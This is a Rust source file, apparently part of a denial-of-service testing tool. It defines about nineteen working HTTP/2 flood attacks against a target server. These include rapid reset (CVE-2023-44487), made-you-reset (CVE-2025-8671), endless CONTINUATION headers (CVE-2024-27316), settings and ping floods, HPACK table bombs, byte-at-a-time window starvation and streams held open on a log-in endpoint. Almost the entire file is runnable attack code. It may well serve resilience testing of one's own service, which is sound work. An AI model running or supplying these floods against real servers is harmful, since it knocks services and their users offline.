//! Floods of HTTP/2 frames. None needs credentials unless noted.

use super::attack::{Attack, work};
use crate::attacker::{Answer, Attacker};
use crate::wire::*;

pub const ATTACKS: &[Attack] = &[
    Attack::new("rapid-reset", "streams opened and reset at once (CVE-2023-44487)", work!(rapid_reset)),
    Attack::new(
        "rapid-reset-lists",
        "the same with a token, each stream asking for a page of 1,000",
        work!(rapid_reset_lists),
    )
    .long(),
    Attack::new(
        "made-you-reset",
        "requests followed by a window update of nothing, so that the server resets them (CVE-2025-8671)",
        work!(made_you_reset),
    ),
    Attack::new("continuation", "headers that never end, 4 kB a frame (CVE-2024-27316)", work!(continuation)),
    Attack::new("continuation-empty", "headers that never end, in empty frames", work!(continuation_empty))
        .long(),
    Attack::new("settings", "settings without end, their acknowledgements unread", work!(settings)).long(),
    Attack::new(
        "settings-of-many-streams",
        "500 streams open, and settings that change the window of each",
        work!(settings_of_many_streams),
    ),
    Attack::new("ping", "pings without end, their answers unread", work!(ping)),
    Attack::new("ping-read", "the same with the answers read", work!(ping_read)).long(),
    Attack::new("window-updates", "windows opened by a byte at a time", work!(window_updates)).long(),
    Attack::new("tiny-windows", "answers drawn a byte at a time on 500 streams", work!(tiny_windows)),
    Attack::new("priority", "priorities of streams that do not exist", work!(priority)).long(),
    Attack::new("empty-data", "a body of empty frames without end", work!(empty_data)),
    Attack::new("padded-data", "a body of single bytes in 255 bytes of padding", work!(padded_data)).long(),
    Attack::new(
        "hpack-bomb",
        "a header of 4 kB in the table, referred to 12,000 times a request",
        work!(hpack_bomb),
    ),
    Attack::new(
        "hpack-table",
        "the table of headers filled and emptied with each request",
        work!(hpack_table),
    )
    .long(),
    Attack::new("many-headers", "requests of 1,000 small headers", work!(many_headers)).long(),
    Attack::new("unknown-frames", "frames of kinds that do not exist", work!(unknown_frames)).long(),
    Attack::new(
        "open-streams",
        "log-ins of which only the headers come, on as many streams as there are",
        work!(open_streams),
    )
    .long(),
];

const HEALTH: &str = "/healthz";
const LOG_IN: &str = "/v3/auth/tokens";

/// Connections of a flood: more than the server has threads.
const CONNECTIONS: usize = 4;

/// Frames in one write, so that writing costs the generator little.
const FRAMES: u32 = 100;

/// The number of the n-th stream that a client opens.
fn stream(number: u32) -> u32 {
    (number * 2 + 1) % (1 << 31)
}

/// As many pieces as a write has, numbered on.
fn pieces(write: u32, piece: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (write * FRAMES..(write + 1) * FRAMES).flat_map(piece).collect()
}

fn request(stream: u32, block: &[u8]) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
}

async fn rapid_reset(attacker: Attacker) {
    let block = block("GET", HEALTH, &[]);
    let piece = move |number| [request(stream(number), &block), reset(stream(number))].concat();
    attacker.flood(CONNECTIONS, opening(&[]), Answer::Read, move |write| pieces(write, &piece)).await;
}

fn list_block(attacker: &Attacker) -> Vec<u8> {
    block("GET", &attacker.target.path("/secrets?limit=1000"), &[("x-auth-token", &attacker.target.token)])
}

async fn rapid_reset_lists(attacker: Attacker) {
    let block = list_block(&attacker);
    let piece = move |number| [request(stream(number), &block), reset(stream(number))].concat();
    attacker.flood(CONNECTIONS, opening(&[]), Answer::Read, move |write| pieces(write, &piece)).await;
}

async fn made_you_reset(attacker: Attacker) {
    let block = list_block(&attacker);
    let piece = move |number| [request(stream(number), &block), window_update(stream(number), 0)].concat();
    attacker.flood(CONNECTIONS, opening(&[]), Answer::Read, move |write| pieces(write, &piece)).await;
}

async fn continuation(attacker: Attacker) {
    let mut opening = opening(&[]);
    opening.extend(frame(HEADERS, 0, 1, &block("GET", HEALTH, &[])));
    let value = "v".repeat(4_000);
    let piece = move |number| frame(CONTINUATION, 0, 1, &header(&format!("x-{number}"), &value));
    attacker.flood(CONNECTIONS, opening, Answer::Read, piece).await;
}

async fn continuation_empty(attacker: Attacker) {
    let mut opening = opening(&[]);
    opening.extend(frame(HEADERS, 0, 1, &block("GET", HEALTH, &[])));
    attacker
        .flood(CONNECTIONS, opening, Answer::Read, |write| pieces(write, |_| frame(CONTINUATION, 0, 1, b"")))
        .await;
}

fn window_setting(number: u32) -> Vec<u8> {
    let mut payload = INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
    payload.extend((60_000 + number % 2).to_be_bytes());
    frame(SETTINGS, 0, 0, &payload)
}

async fn settings(attacker: Attacker) {
    attacker
        .flood(CONNECTIONS, opening(&[]), Answer::LeftUnread, |write| pieces(write, window_setting))
        .await;
}

async fn settings_of_many_streams(attacker: Attacker) {
    let block = block("POST", LOG_IN, &[("content-type", "application/json")]);
    let mut opening = opening(&[]);
    opening.extend((0..500).flat_map(|number| frame(HEADERS, END_HEADERS, stream(number), &block)));
    attacker.flood(CONNECTIONS, opening, Answer::Read, |write| pieces(write, window_setting)).await;
}

async fn ping(attacker: Attacker) {
    let piece = |write| pieces(write, |_| frame(PING, 0, 0, b"12345678"));
    attacker.flood(CONNECTIONS, opening(&[]), Answer::LeftUnread, piece).await;
}

async fn ping_read(attacker: Attacker) {
    let piece = |write| pieces(write, |_| frame(PING, 0, 0, b"12345678"));
    attacker.flood(CONNECTIONS, opening(&[]), Answer::Read, piece).await;
}

async fn window_updates(attacker: Attacker) {
    let mut opening = opening(&[]);
    let block = block("POST", LOG_IN, &[("content-type", "application/json")]);
    opening.extend(frame(HEADERS, END_HEADERS, 1, &block));
    let piece = |write| pieces(write, |number| window_update(number % 2, 1));
    attacker.flood(CONNECTIONS, opening, Answer::Read, piece).await;
}

async fn tiny_windows(attacker: Attacker) {
    let block = block("GET", "/openapi.yaml", &[]);
    let mut opening = opening(&[(INITIAL_WINDOW_SIZE, 1)]);
    opening.extend(window_update(0, WIDEST_WINDOW - 65_535));
    opening.extend((0..500).flat_map(|number| request(stream(number), &block)));
    let piece = |write| pieces(write, |number| window_update(stream(number % 500), 1));
    attacker.flood(CONNECTIONS, opening, Answer::Read, piece).await;
}

async fn priority(attacker: Attacker) {
    let piece = |write| {
        pieces(write, |number| {
            let mut payload = stream(number + 1).to_be_bytes().to_vec();
            payload.push(16);
            frame(PRIORITY, 0, stream(number), &payload)
        })
    };
    attacker.flood(CONNECTIONS, opening(&[]), Answer::Read, piece).await;
}

async fn empty_data(attacker: Attacker) {
    let mut opening = opening(&[]);
    let block = block("POST", LOG_IN, &[("content-type", "application/json")]);
    opening.extend(frame(HEADERS, END_HEADERS, 1, &block));
    attacker
        .flood(CONNECTIONS, opening, Answer::Read, |write| pieces(write, |_| frame(DATA, 0, 1, b"")))
        .await;
}

async fn padded_data(attacker: Attacker) {
    let mut opening = opening(&[]);
    let block = block("POST", LOG_IN, &[("content-type", "application/json")]);
    opening.extend(frame(HEADERS, END_HEADERS, 1, &block));
    let mut payload = vec![255, b' '];
    payload.extend([0; 255]);
    let piece = move |write| pieces(write, |_| frame(DATA, PADDED, 1, &payload));
    attacker.flood(CONNECTIONS, opening, Answer::Read, piece).await;
}

async fn hpack_bomb(attacker: Attacker) {
    // One long entry into the table, then references to it, each a single byte.
    let mut entry = header("x-bomb", &"v".repeat(4_000));
    entry[0] = 0x40;
    let first = [block("GET", HEALTH, &[]), entry, vec![0xbe; 12_000]].concat();
    let later = [block("GET", HEALTH, &[]), vec![0xbe; 12_000]].concat();
    let piece = move |number| request(stream(number), if number == 0 { &first } else { &later });
    attacker.flood(CONNECTIONS, opening(&[]), Answer::Read, piece).await;
}

async fn hpack_table(attacker: Attacker) {
    // The table is made empty, then large, then filled with an entry, in each request.
    let mut entry = header("x-entry", &"v".repeat(3_500));
    entry[0] = 0x40;
    let block = [vec![0x20, 0x3f, 0xe1, 0x1f], block("GET", HEALTH, &[]), entry].concat();
    attacker
        .flood(CONNECTIONS, opening(&[]), Answer::Read, move |number| request(stream(number), &block))
        .await;
}

async fn many_headers(attacker: Attacker) {
    let mut block = block("GET", HEALTH, &[]);
    block.extend((0..1_000).flat_map(|number| header(&format!("x-{number}"), "")));
    attacker
        .flood(CONNECTIONS, opening(&[]), Answer::Read, move |number| request(stream(number), &block))
        .await;
}

async fn unknown_frames(attacker: Attacker) {
    let piece = |write| pieces(write, |number| frame(10 + (number % 200) as u8, 0xff, 1, &[0; 50]));
    attacker.flood(CONNECTIONS, opening(&[]), Answer::Read, piece).await;
}

async fn open_streams(attacker: Attacker) {
    let block = block("POST", LOG_IN, &[("content-type", "application/json")]);
    let mut opening = opening(&[]);
    opening.extend((0..500).flat_map(|number| frame(HEADERS, END_HEADERS, stream(number), &block)));
    attacker.hold(200, opening, Answer::Read, None).await;
}
